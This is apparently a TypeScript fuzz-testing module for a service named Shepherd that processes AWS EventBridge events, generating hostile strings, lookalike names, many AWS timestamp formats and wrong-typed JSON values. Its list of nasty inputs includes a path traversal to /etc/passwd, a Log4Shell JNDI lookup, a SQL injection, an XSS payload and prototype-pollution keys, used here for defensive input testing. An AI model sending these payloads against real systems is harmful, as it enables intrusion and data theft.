// Hostile values for the fuzz tests: text a user, an AWS service or an attacker could put in any string field, names
// Shepherd was not configured with, and times in every format AWS writes.
import fc from 'fast-check';

/** Text a user, an AWS service or an attacker could put in any string field. */
const NASTY = [
  ' ',
  '\u0000',
  '\uFEFF',
  '\u202Eevil',
  'churn\u200B',
  'ｃｈｕｒｎ',
  'İı',
  '__proto__',
  'constructor',
  'toString',
  '../../etc/passwd',
  '%2e%2e%2f',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log-injection payload, meant literally
  '${jndi:ldap://x/a}',
  "' OR 1=1 --",
  '<img src=x onerror=alert(1)>',
  'null',
  'NaN',
  '🐑🐑🐑',
  'a'.repeat(64),
  '\n\r\t',
];

/** Up to 640,000 UTF-16 units: past anything EventBridge delivers (256 KB), so past anything a name holds. */
const hugeText = fc
  .tuple(fc.string({ unit: 'grapheme', minLength: 1, maxLength: 4 }), fc.integer({ min: 20_000, max: 80_000 }))
  .map(([unit, times]) => unit.repeat(times));

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: hugeText },
  { weight: 3, arbitrary: fc.constantFrom(...NASTY) },
);

/** A name Shepherd was not configured with, however it is spelt (case, lookalikes and all). */
export const unconfiguredName = (configured: readonly string[]) =>
  hostileText.filter((text) => text.length > 0 && !configured.some((c) => sameName(c, text)));
const sameName = (a: string, b: string) => a.toLowerCase() === b.toLowerCase() || a.toUpperCase() === b.toUpperCase();

/** A time as EventBridge writes the envelope's `time`: whole seconds, `Z`. */
const instant = fc.date({
  min: new Date('1970-01-01T00:00:00Z'),
  max: new Date('2999-12-31T23:59:59Z'),
  noInvalidDate: true,
});
export const eventBridgeTime = instant.map((d) => d.toISOString().replace(/\.\d{3}Z$/, 'Z'));

/**
 * Every other way AWS writes a time: API timestamps (epoch seconds, with fractions, or milliseconds, as numbers or
 * strings), ISO 8601 with fractions or offsets (CloudWatch alarm states: `+0000`), SigV4's basic format, HTTP dates.
 */
export const otherAwsTime: fc.Arbitrary<unknown> = instant.chain((d) => {
  const iso = d.toISOString();
  return fc.constantFrom<unknown>(
    Math.floor(d.getTime() / 1000),
    d.getTime() / 1000,
    d.getTime(),
    String(d.getTime()),
    iso,
    iso.replace(/\.(\d{3})Z$/, '.$1000Z'),
    iso.replace('Z', '+0000'),
    iso.replace(/\.\d{3}Z$/, '+00:00'),
    iso.replace(/\.\d{3}Z$/, '-05:00'),
    iso.replace(/\.\d{3}Z$/, ''),
    iso.slice(0, 16).concat('Z'),
    iso.replace('T', ' ').replace(/\.\d{3}Z$/, ''),
    iso.replace(/[-:]/g, '').replace(/\.\d{3}/, ''),
    d.toUTCString(),
    iso.slice(0, 10),
  );
});

export const typeOf = (v: unknown) => (v === null ? 'null' : Array.isArray(v) ? 'array' : typeof v);

/** Any JSON value of another type than `value`'s. */
export const otherType = (value: unknown) =>
  fc
    .oneof(
      hostileText,
      fc.double(),
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
      fc.array(fc.jsonValue(), { maxLength: 3 }),
      fc.dictionary(fc.string(), fc.jsonValue(), { maxKeys: 3 }),
    )
    .filter((v) => typeOf(v) !== typeOf(value));
